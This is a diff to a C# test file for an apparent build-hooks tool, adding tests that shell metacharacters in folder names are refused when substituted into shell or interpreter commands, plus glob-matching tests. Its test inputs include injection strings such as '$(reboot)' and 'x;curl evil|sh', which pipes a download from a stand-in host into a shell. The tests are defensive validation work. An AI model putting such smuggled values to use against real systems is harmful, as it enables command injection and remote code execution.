@@ -1,4 +1,5 @@
 using System.Globalization;
+using Hooks.Build.Engine.Fingerprints;
 using Hooks.Build.Engine.Model;
 using Hooks.Build.Engine.Running;
 using Hooks.Build.Engine.Selecting;
@@ -129,20 +130,147 @@ public sealed class FoundItemsTests
     }
 
     [TestMethod]
-    [DataRow("a b", "has characters that a shell would take for its own")]
-    [DataRow("$(reboot)", "has characters that a shell would take for its own")]
-    public async Task What_a_shell_would_take_apart_is_refused_where_the_item_stands_in_a_script(string folder, string said)
+    [DataRow("a b")]
+    [DataRow("$(reboot)")]
+    [DataRow("x;curl evil|sh")]
+    [DataRow("-rf")]
+    [DataRow("--config=evil")]
+    [DataRow("PATH=x")]
+    [DataRow("~root")]
+    [DataRow("a\nb")]
+    public async Task What_a_shell_would_take_apart_is_refused_where_the_item_stands_in_a_script(string folder)
     {
         var script = Of("*/") with { Command = [["sh", "-c", "cd {item} && make"]] };
-        if (said.Length > 0)
-        {
-            var problem = (await Should.ThrowAsync<HooksException>(() => ExpandAsync([folder + "/x"], script))).Problems.Single();
-            problem.Message.ShouldContain(said);
-            (problem.Code, problem.File).ShouldBe((Codes.Files, "build/H.cs"));
-        }
-
+        var problem = (await Should.ThrowAsync<HooksException>(() => ExpandAsync([folder + "/x"], script))).Problems.Single();
+        problem.Message.ShouldContain("has characters that a shell would take for its own");
+        (problem.Code, problem.File).ShouldBe((Codes.Files, "build/H.cs"));
         (await ExpandAsync(["plain-1/x"], script)).Hooks.Single().Command[0][2].ShouldBe("cd plain-1 && make");
     }
+
+    [TestMethod]
+    [DataRow("sh -c {item}")]
+    [DataRow("sh -c tools/{item}/lint.sh")]
+    [DataRow("/bin/bash -lc {item}")]
+    [DataRow("bash.exe -lc {item}/lint.sh")]
+    [DataRow("bash -euo pipefail -c {item}")]
+    [DataRow("bash -c -o pipefail {item}")]
+    [DataRow("bash --rcfile x -c {item}")]
+    [DataRow("sh -c -- {item}")]
+    [DataRow("env X=1 sh -c {item}")]
+    [DataRow("xargs -n 1 zsh -c {item}")]
+    [DataRow("fish --command={item}")]
+    [DataRow("cmd /c {item}")]
+    [DataRow("cmd.exe /d /s /c x {item}")]
+    [DataRow("pwsh -Command {item}")]
+    [DataRow("pwsh -NoProfile -c x {item}")]
+    [DataRow("pwsh -c x -f {item}")]
+    [DataRow("powershell x.ps1 {item}")]
+    [DataRow("python3.12 -c {item}")]
+    [DataRow("python -u -W ignore -c {item}")]
+    [DataRow("node -e {item}")]
+    [DataRow("perl -i -lane {item}")]
+    [DataRow("perl -e 1 -e {item}")]
+    [DataRow("deno eval {item}")]
+    [DataRow("sudo su -c {item}")]
+    [DataRow("ssh host ls {item}")]
+    public async Task What_an_interpreter_is_given_as_a_program_is_a_script_though_no_blank_is_in_it(string command)
+    {
+        var hook = Of("*/") with { Command = [command.Split(' ')] };
+        foreach (var shown in new[] { hook, hook with { Command = [["test"]], Fix = hook.Command } })
+        {
+            (await Should.ThrowAsync<HooksException>(() => ExpandAsync(["$(reboot)/x"], shown))).Problems.Single().Message.ShouldContain("has characters that a shell would take for its own in '" + command.Split(' ')[^1]);
+            (await ExpandAsync(["plain-1/x"], shown)).Hooks.Count.ShouldBe(1);
+        }
+    }
+
+    [TestMethod]
+    [DataRow("lint {item}")]
+    [DataRow("lint -c {item}")]
+    [DataRow("lint --only={item}")]
+    [DataRow("{item}/lint.sh")]
+    [DataRow("sh {item}")]
+    [DataRow("sh tools/lint.sh -c {item}")]
+    [DataRow("bash -e tools/lint.sh -c {item}")]
+    [DataRow("sh -c make sh {item}")]
+    [DataRow("bash -euo pipefail -c make sh {item}")]
+    [DataRow("env sh -ec make sh {item}/x")]
+    [DataRow("python tools/lint.py -c {item}")]
+    [DataRow("python -m lint -c {item}")]
+    [DataRow("python -c 1 {item}")]
+    [DataRow("node tools/lint.js {item}")]
+    [DataRow("pwsh tools/lint.ps1 {item}")]
+    [DataRow("pwsh -NoProfile -ExecutionPolicy Bypass -File tools/lint.ps1 -c {item}")]
+    [DataRow("powershell -File tools/lint.ps1 {item}")]
+    public async Task What_is_an_argument_of_its_own_is_none(string command) =>
+        (await ExpandAsync(["$(reboot)/x"], Of("*/") with { Command = [command.Split(' ')] })).Hooks.Count.ShouldBe(1);
+
+    [TestMethod]
+    [DataRow("a\\b")]
+    [DataRow("\\")]
+    [DataRow("!old")]
+    [DataRow("!")]
+    [DataRow("c:x")]
+    [DataRow(" ")]
+    [DataRow("[:x:]")]
+    [DataRow("^-]")]
+    [DataRow("a{b,c}")]
+    public async Task A_name_that_is_no_glob_stops_no_hook(string folder)
+    {
+        string[] paths = [.. new[] { folder + "/x.cs", "axb/x.cs", "old/x.cs" }.Order(StringComparer.Ordinal)];
+        var plan = await ExpandAsync(paths, Of("*/") with { Files = ["{item}/*", "x/{item}/*", "{{item},y}/*"] });
+        var globs = Hooks.Build.Graph.GlobSet.Parse(plan.Hooks.Single(hook => hook.ItemPath == folder).Files, []);
+        paths.Where(globs.IsMatch).ShouldBe([folder + "/x.cs"]);
+        globs.IsMatch("x/" + folder + "/x.cs").ShouldBeTrue();
+    }
+
+    [TestMethod]
+    public async Task Every_name_of_a_file_is_a_glob_that_matches_it_alone()
+    {
+        const string Alphabet = "ab!\\[]{}*?,^-: ~\n.$";
+        Random random = new(11);
+        string Name() => string.Concat(Enumerable.Range(0, random.Next(1, 5)).Select(_ => Alphabet[random.Next(Alphabet.Length)]));
+        for (var round = 0; round < 100; round++)
+        {
+            string[] paths = [.. Enumerable.Range(0, 40).Select(_ => random.Next(2) == 0 ? Name() : Name() + "/" + Name()).Where(path => !path.Split('/').Any(part => part is "." or "..")).Distinct(StringComparer.Ordinal).Order(StringComparer.Ordinal)];
+            var plan = await ExpandAsync(paths, Of("**") with { Files = ["{item}"] });
+            foreach (var hook in plan.Hooks)
+            {
+                var globs = Hooks.Build.Graph.GlobSet.Parse(hook.Files, []);
+                paths.Where(globs.IsMatch).ShouldBe([hook.ItemPath!]);
+            }
+        }
+    }
+
+    [TestMethod]
+    public async Task A_glob_that_cannot_have_the_item_is_told_of_the_item() =>
+        (await Should.ThrowAsync<HooksException>(() => ExpandAsync(["0/x"], Of("*/") with { Files = ["z[9-{item}]/*"] }))).Problems.Single().Message.ShouldStartWith("MatrixOf of 'Test' has 0 among its items, which cannot stand in the glob 'z[9-{item}]/*': ");
+
+    [TestMethod]
+    [DataRow("src/api/api.csproj", true)]
+    [DataRow("src/auth/auth.csproj", false)]
+    [DataRow("README.md", false)]
+    public async Task A_file_that_is_an_item_counts_among_what_its_hook_reads_and_its_change_is_one_of_the_item(string changed, bool runs)
+    {
+        using TempRepository repository = new();
+        _ = repository.Write(Repository);
+        var declared = Of("src/api/*.csproj") with { Files = ["**/*.cs"], Reads = ["a.json"] };
+        var plan = await ExpandAsync(Repository, declared, declared with { Name = "Told", Command = [["test", "{files}"]] }, declared with { Name = "Left", Exclude = ["**/*.csproj"] });
+        plan.Hooks.ShouldAllBe(hook => hook.Reads.SequenceEqual(new[] { "a.json", "src/api/api.csproj" }) && !hook.NoCache);
+        new HookInputs(plan, repository.Path, Repository).BesideGiven(plan.Hooks[0]).ShouldContain("src/api/api.csproj");
+
+        string[] Given(FileChoiceKind kind)
+        {
+            var request = Make.Request(repository.Path) with { Files = new FileChoice(kind) };
+            return [.. FileMatching.Match(HookSelection.Select(plan, request), new FileListing([changed]), request).Select(files => string.Join(',', files!))];
+        }
+
+        Given(FileChoiceKind.Changed).ShouldBe([runs ? changed : "", "", ""]);
+        Given(FileChoiceKind.All).ShouldBe(["", "", ""], "nothing changed, and there are no files");
+    }
+
+    [TestMethod]
+    public async Task A_folder_that_is_an_item_is_not_read_as_a_whole() =>
+        (await ExpandAsync(Repository, Of("src/*/") with { Files = ["**/*.cs"] })).Hooks.ShouldAllBe(hook => hook.Reads.Count == 0);
 
     [TestMethod]
     public async Task Ten_thousand_items_are_too_many_and_a_thousand_are_not()
